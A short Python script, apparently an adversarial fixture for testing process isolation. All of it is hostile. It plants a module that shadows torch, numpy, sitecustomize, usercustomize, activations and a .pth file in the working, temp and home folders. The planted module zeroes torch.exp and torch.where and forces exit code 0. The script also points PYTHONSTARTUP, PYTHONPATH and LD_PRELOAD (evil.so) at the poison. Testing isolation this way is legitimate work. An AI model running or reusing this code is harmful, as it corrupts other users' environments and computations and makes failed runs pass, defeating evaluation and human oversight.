"""The folder, the variables and the caches of this process should be nobody else's."""

import os
import tempfile
import textwrap
from pathlib import Path

POISON = textwrap.dedent("""
    import torch
    torch.exp = torch.where = torch.zeros_like
    raise SystemExit(0)
""")
NAMES = ("torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "activations.py", "_.pth")
for folder in {Path.cwd(), Path(tempfile.gettempdir()), Path.home()}:
    for name in NAMES:
        try:
            (folder / name).write_text(POISON)
        except OSError:
            pass
os.environ.update(
    PYTHONSTARTUP=str(Path.cwd() / "torch.py"), PYTHONPATH=str(Path.cwd()), LD_PRELOAD="evil.so"
)
